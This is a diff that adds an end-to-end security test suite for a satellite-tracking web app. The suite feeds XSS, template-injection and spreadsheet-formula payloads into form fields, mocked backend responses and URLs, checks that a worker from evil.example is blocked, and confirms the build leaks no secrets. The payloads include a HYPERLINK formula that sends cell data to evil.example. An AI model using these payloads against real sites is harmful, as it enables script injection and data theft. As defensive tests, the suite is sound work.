@@ -1,0 +1,238 @@
+import { cp, mkdtemp, readdir, readFile, rm, symlink } from 'node:fs/promises';
+import { homedir, tmpdir } from 'node:os';
+import { join, relative } from 'node:path';
+import type { Page } from 'playwright-core';
+import { describe, expect, it, onTestFinished } from 'vitest';
+import { N2YO_KEY } from '../support/gateway.ts';
+import { expectClean, openPage, problemsOf } from './harness.ts';
+import { PROJECT_ROOT, startNode } from './node-process.ts';
+import { button, openTab, press, tabTo, toastsOf, typeTime } from './operator.ts';
+
+/** Somebody writes script wherever the product takes text. It is to be text, and nothing else is to happen. */
+
+const PAYLOADS = [
+  '<script data-pwned>window.pwned = 1</script>',
+  '"><img data-pwned src=x onerror="window.pwned = 1">',
+  '<svg data-pwned onload=alert(1)><iframe data-pwned srcdoc="<script>alert(1)</script>">',
+  '</title></style></textarea><b data-pwned onclick=alert(1)>',
+  'javascript:alert(document.domain)//',
+  '{{constructor.constructor("window.pwned = 1")()}} <%= window.pwned = 1 %>',
+  '=HYPERLINK("https://evil.example/?"&A1,"open")',
+] as const;
+const ALL = PAYLOADS.join(' ');
+/** A title has 200 characters at most. */
+const TITLE = [PAYLOADS[6], PAYLOADS[0], PAYLOADS[1]].join(' ');
+
+/** A build on a busy machine. */
+const PATIENTLY = { timeout: 180_000 };
+
+/** Fails when any payload did anything but be shown. */
+async function expectHarmless(page: Page, asked: readonly string[]): Promise<void> {
+  const found = await page.evaluate(() => ({
+    elements: document.querySelectorAll('[data-pwned], iframe, main script').length,
+    handlers: document.querySelectorAll('[onclick], [onerror], [onload]').length,
+    links: [...document.querySelectorAll('a')].filter((link) => !/^https?:$|^blob:$/.test(link.protocol))
+      .length,
+    ran: 'pwned' in window,
+  }));
+  expect(found).toEqual({ elements: 0, handlers: 0, links: 0, ran: false });
+  expect(asked).toEqual([]);
+}
+
+/** Keeps what dialogs the page opens and what other hosts it asks. */
+function watch(page: Page): string[] {
+  const seen: string[] = [];
+  page.on('dialog', (dialog) => {
+    seen.push(`dialog: ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  page.on('request', (request) => {
+    const { protocol, hostname } = new URL(request.url());
+    if (protocol.startsWith('http') && hostname !== 'localhost') seen.push(`asked ${request.url()}`);
+  });
+  return seen;
+}
+
+const later = (hours: number): Date => new Date(Date.now() + hours * 3_600_000);
+
+describe('script', () => {
+  it('typed into every field is text', async () => {
+    const page = await openTab('timeline');
+    const seen = watch(page);
+    await tabTo(page, page.getByRole('textbox', { name: 'Title' }));
+    await page.keyboard.insertText(TITLE);
+    await typeTime(page, page.getByLabel('Start Time'), later(3));
+    await typeTime(page, page.getByLabel('End Time'), later(4));
+    await tabTo(page, page.getByRole('textbox', { name: 'Description' }));
+    await page.keyboard.insertText(ALL);
+    await press(page, button(page, 'Add Event'));
+    await page.getByRole('article', { name: TITLE, exact: true }).first().waitFor();
+    await page.getByText(ALL, { exact: true }).first().waitFor();
+    await expectHarmless(page, seen);
+
+    await page.getByRole('tab', { name: 'Commands' }).click();
+    const time = page.getByLabel('Scheduled Time', { exact: false }).and(page.locator('input'));
+    await time.focus();
+    await page.keyboard.type(ALL.slice(0, 60));
+    await button(page, 'Queue Command').click();
+    await expect.poll(() => toastsOf(page)).toContain('Please fill in all fields');
+
+    await page.getByRole('tab', { name: 'Anomalies' }).click();
+    const search = page.getByRole('searchbox');
+    for (const payload of [...PAYLOADS, '(a+)+$', '\\', '[', '%00']) await search.fill(payload);
+    await search.fill('HYPERLINK'); // the event's line in the log
+    await page.getByRole('region', { name: 'Events, newest first' }).getByText('HYPERLINK').first().waitFor();
+    await expectHarmless(page, seen);
+    await expectClean(page);
+  });
+
+  it('in every text of a backend that has been taken over is text', async () => {
+    const page = await openPage();
+    const seen = watch(page);
+    await page.context().route('**/functions/v1/**', (route) => {
+      const url = route.request().url();
+      const body = url.includes('astros')
+        ? {
+            people: [
+              { name: ALL, craft: ALL },
+              { name: PAYLOADS[1], craft: 'ISS' },
+            ],
+            number: 2,
+            message: ALL,
+          }
+        : { error: ALL, message: ALL, info: { satname: ALL }, gateway: { source: ALL, error: ALL } };
+      return route.fulfill({
+        status: url.includes('astros') ? 200 : 502,
+        headers: { 'content-type': 'text/html', 'x-injected': '<script>' },
+        body: JSON.stringify(body),
+      });
+    });
+    await page.goto('/?tab=orbital');
+    const crew = page.getByRole('region', { name: 'Astronauts in Orbit' });
+    await crew.getByText('<img data-pwned', { exact: false }).first().waitFor();
+    await page.getByRole('button', { name: /^Sources:/ }).click();
+    await page
+      .getByRole('dialog', { name: 'Data sources' })
+      .getByText('<script data-pwned>')
+      .first()
+      .waitFor();
+    await expectHarmless(page, seen);
+    const problems = (await problemsOf(page)).filter(
+      (problem) => !/status of 502|could not be had/.test(problem),
+    );
+    expect(problems).toEqual([]);
+  });
+
+  it('in the address is text', async () => {
+    const query = new URLSearchParams({ tab: ALL, satellite: ALL, wall: ALL, theme: ALL, __proto__: ALL });
+    const page = await openPage();
+    const seen = watch(page);
+    for (const path of [
+      `/?${query}#${encodeURIComponent(ALL)}`,
+      `/?tab=orbital&satellite=${encodeURIComponent(ALL)}`,
+    ]) {
+      await page.goto(path);
+      await page.getByText('Connected to ORBITA-1').waitFor();
+      await expectHarmless(page, seen);
+    }
+    await page.goto(`/${encodeURIComponent(PAYLOADS[1])}/${encodeURIComponent(PAYLOADS[2])}`);
+    await page.getByText('404').first().waitFor();
+    await expectHarmless(page, seen);
+    await expectClean(page);
+  });
+});
+
+it('a script that got into the page all the same can do nothing with markup, code or other hosts', async () => {
+  const page = await openPage();
+  await page.getByText('Connected to ORBITA-1').waitFor();
+  const outcome = await page.evaluate(() => {
+    const attempt = (act: () => unknown) => {
+      try {
+        act();
+        return 'done';
+      } catch (error) {
+        return (error as Error).name;
+      }
+    };
+    const place = document.createElement('div');
+    return {
+      markup: attempt(() => {
+        place.innerHTML = '<img src=x>';
+      }),
+      foreignWorker: attempt(() => new Worker('https://evil.example/worker.js')),
+      dataWorker: attempt(() => new Worker('data:text/javascript,1')),
+      policy: attempt(() =>
+        (
+          window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
+        ).trustedTypes.createPolicy('other', {}),
+      ),
+      isolated: crossOriginIsolated,
+      empty: attempt(() => {
+        place.innerHTML = '';
+      }),
+    };
+  });
+  expect(outcome).toEqual({
+    markup: 'TypeError',
+    foreignWorker: 'TypeError',
+    dataWorker: 'TypeError',
+    policy: 'TypeError',
+    isolated: true,
+    empty: 'done',
+  });
+});
+
+describe('what is built', () => {
+  async function filesBelow(folder: string): Promise<ReadonlyMap<string, Buffer>> {
+    const entries = await readdir(folder, { recursive: true, withFileTypes: true });
+    const paths = entries
+      .filter((entry) => entry.isFile())
+      .map((entry) => join(entry.parentPath, entry.name));
+    return new Map(
+      await Promise.all(paths.map(async (path) => [relative(folder, path), await readFile(path)] as const)),
+    );
+  }
+
+  /** Without the comments that name the modules, which count from the folder that the build was started in. */
+  const codeOf = (bytes: Buffer | undefined) => bytes?.toString('latin1').replace(/^\/\/.*$/gm, '');
+
+  it(
+    'holds no secret of the builder’s, no path of its machine, and is the same from every folder',
+    PATIENTLY,
+    async () => {
+      const folder = await mkdtemp(join(tmpdir(), 'orbita-bundle-'));
+      onTestFinished(() => rm(folder, { recursive: true }));
+      for (const name of ['src', 'public', 'scripts', 'index.html', 'vite.config.ts', 'package.json'])
+        await cp(join(PROJECT_ROOT, name), join(folder, name), { recursive: true });
+      for (const name of ['package-lock.json', 'tsconfig.json', 'tsconfig.base.json', 'tests/tsconfig.json'])
+        await cp(join(PROJECT_ROOT, name), join(folder, name));
+      await symlink(join(PROJECT_ROOT, 'node_modules'), join(folder, 'node_modules'));
+      const built = startNode(relative(PROJECT_ROOT, join(folder, 'scripts/build.mjs')), {
+        N2YO_API_KEY: N2YO_KEY,
+        SECRET: 'canary-8c1f',
+      });
+      expect(await built.ended).toMatchObject({ code: 0, stderr: '' });
+
+      const files = await filesBelow(join(folder, 'dist'));
+      expect([...files.keys()]).toEqual(
+        expect.arrayContaining(['client/index.html', 'server/server.js', 'edge/gateway.js']),
+      );
+      for (const [name, bytes] of files) {
+        expect(name).not.toMatch(/\.map$/);
+        const text = bytes.toString('latin1');
+        for (const telling of [
+          N2YO_KEY,
+          'canary-8c1f',
+          folder,
+          PROJECT_ROOT,
+          `${homedir()}/`,
+          'sourceMappingURL=',
+        ]) {
+          expect(text.includes(telling), `${name} holds ${telling}`).toBe(false);
+        }
+      }
+      const ours = await filesBelow(join(PROJECT_ROOT, 'dist'));
+      for (const [name, bytes] of files) expect(codeOf(ours.get(name)) === codeOf(bytes), name).toBe(true);
+    },
+  );
+});
